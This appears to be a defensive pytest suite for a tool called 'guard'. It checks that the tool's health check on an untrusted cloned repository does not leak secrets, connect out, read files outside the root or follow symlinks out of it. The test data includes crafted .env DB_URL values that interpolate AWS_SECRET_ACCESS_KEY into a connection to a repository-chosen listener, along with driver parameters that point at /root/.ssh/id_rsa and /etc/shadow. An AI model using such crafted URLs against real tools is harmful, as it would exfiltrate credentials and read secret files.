"""`guard health` on a repository nobody trusted yet (issue 16, attacks 2 and 3), against a real
loopback listener and real files outside the root.

Attack 2: a committed .env whose DB_URL interpolates guard's own environment (${GUARD_AUDIT_URL},
${AWS_SECRET_ACCESS_KEY}) into a URL pointing at a listener the repository chose.
Attack 3: an untrusted health.db-url (any host; a sqlite:/// file outside the root) and an untrusted
health.env-file outside the root: refused until `guard trust`, honoured after it (so each test
also shows it can tell the two apart).
"""

from __future__ import annotations

import json
import string
import tempfile
from pathlib import Path

from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st
from listener import listening
from support import run_guard
from support import trust
from support import write

FAST = {'GUARD_HEALTH_CONNECT_TIMEOUT': '1', 'GUARD_HEALTH_STATEMENT_TIMEOUT': '1'}
REFERENCES = ('${NAME}', '${NAME:-fallback}', '$NAME', '${NAME}${NAME}')


@settings(max_examples=6, deadline=None)
@given(
    secret=st.text(string.ascii_letters + string.digits, min_size=20, max_size=40),
    reference=st.sampled_from(REFERENCES),
    output=st.sampled_from(['text', 'json']),
)
def test_a_repository_env_file_cannot_send_guards_environment_anywhere(
    secret: str, reference: str, output: str
) -> None:
    with tempfile.TemporaryDirectory() as base, listening() as listener:
        root = Path(base) / 'cloned'
        audit_db = f'sqlite:///{base}/audit-{secret}.db'
        refs = [reference.replace('NAME', name) for name in ('GUARD_AUDIT_URL', 'AWS_SECRET_ACCESS_KEY')]
        write(
            root,
            '.env',
            f'DB_URL=postgresql://u:p@127.0.0.1:{listener.port}/x'
            f'?options=-c%20x.a%3D{refs[0]}%20-c%20x.b%3D{refs[1]}\n',
        )
        proc = run_guard(
            'health',
            root,
            '--check',
            'database',
            '--format',
            output,
            env={**FAST, 'GUARD_AUDIT_URL': audit_db, 'AWS_SECRET_ACCESS_KEY': secret},
        )
        assert proc.returncode == 1, proc.stderr  # the listener speaks no PostgreSQL: unhealthy, no crash
        received = listener.received
        # The listener did get libpq's start-up packet, with the references as written: an expanded
        # value would have been right there.
        assert b'AWS_SECRET_ACCESS_KEY' in received and b'GUARD_AUDIT_URL' in received
        assert secret.encode() not in received
        assert secret not in proc.stdout + proc.stderr


def test_untrusted_db_url_connects_nowhere_until_trusted(tmp_path: Path) -> None:
    with listening() as listener:
        root = tmp_path / 'cloned'
        toml = write(
            root,
            'guard.toml',
            f'[health]\nchecks = ["database"]\ndb-url = "postgresql://u:p@127.0.0.1:{listener.port}/x"\n',
        )
        write(root, '.env', 'DB_URL=sqlite:///app.db\n')  # what an untrusted project gets instead: its own
        proc = run_guard('health', root, env=FAST)
        assert listener.connections == []
        assert f'guard: warning: ignoring health.db-url from {toml} (untrusted)' in proc.stderr
        assert 'sqlite:///app.db' in proc.stdout
        trust(root)
        run_guard('health', root, env=FAST)
        assert len(listener.connections) >= 1  # the same check, trusted, does connect: the test can tell


def test_untrusted_sqlite_url_creates_no_file_outside_the_root(tmp_path: Path) -> None:
    root, outside = tmp_path / 'cloned', tmp_path / 'outside'
    outside.mkdir()
    write(root, 'guard.toml', f'[health]\nchecks = ["database"]\ndb-url = "sqlite:///{outside}/created.db"\n')
    proc = run_guard('health', root)
    assert proc.returncode == 2 and 'no database URL' in proc.stderr
    assert list(outside.iterdir()) == []
    trust(root)
    # Trusted, the URL is honoured (guard's SQLite check still never creates a missing database file).
    assert f'{outside}/created.db: database file not found' in run_guard('health', root).stdout


def test_untrusted_env_file_outside_the_root_is_never_read(tmp_path: Path) -> None:
    root, outside = tmp_path / 'cloned', tmp_path / 'outside'
    write(outside, 'app.env', f'DB_URL=sqlite:///{outside}/from-env.db\n')
    toml = write(root, 'guard.toml', f'[health]\nchecks = ["database"]\nenv-file = "{outside}/app.env"\n')
    proc = run_guard('health', root, '--format', 'json')
    assert proc.returncode == 2
    assert f'ignoring health.env-file from {toml} (untrusted)' in proc.stderr
    assert json.loads(proc.stdout)['error'].startswith('no database URL')
    assert str(outside) not in proc.stdout and not (outside / 'from-env.db').exists()
    trust(root)
    assert f'{outside}/from-env.db: database file not found' in run_guard('health', root).stdout


def test_a_committed_env_symlink_out_of_the_root_is_refused(tmp_path: Path) -> None:
    root, outside = tmp_path / 'cloned', tmp_path / 'outside'
    write(outside, 'secrets.env', f'DB_URL=sqlite:///{outside}/followed.db\n')
    root.mkdir()
    (root / '.env').symlink_to(outside / 'secrets.env')
    proc = run_guard('health', root, '--check', 'database')
    assert (proc.returncode, proc.stdout) == (2, '')
    assert proc.stderr == (
        f"guard: error: {root}/.env: is a symlink: guard reads a project's env file only inside the root, "
        'following no link; set health.env-file in a trusted config to read another\n'
    )
    assert not (outside / 'followed.db').exists()


@settings(max_examples=20, deadline=None)
@given(
    parameter=st.sampled_from(['sslkey', 'sslcert', 'sslrootcert', 'passfile', 'service', 'sslcrl', 'SSLKEY']),
    target=st.sampled_from(['/root/.ssh/id_rsa', '/etc/shadow', '../outside/key.pem']),
)
def test_a_repository_url_may_not_point_the_driver_at_client_files(parameter: str, target: str) -> None:
    from guard.config import Config
    from guard.errors import ConfigError
    from guard.health.dburl import resolve

    with tempfile.TemporaryDirectory() as base:
        root = Path(base)
        write(root, '.env', f'DB_URL=postgresql://u:p@db.example.test/x?{parameter}={target}\n')
        try:
            resolve(Config(root=root), root, environ={})
        except ConfigError as e:
            assert str(e) == (
                f"DB_URL in {root}/.env: the URL names client files ({parameter}); a project's env file "
                'may not: set this URL in the environment or health.db-url in a trusted config'
            )
        else:
            raise AssertionError('accepted')
        # The same URL from the environment (the operator's own) is taken as it is.
        url = f'postgresql://u:p@db.example.test/x?{parameter}={target}'
        assert resolve(Config(root=root), root, environ={'DB_URL': url}).secret == url
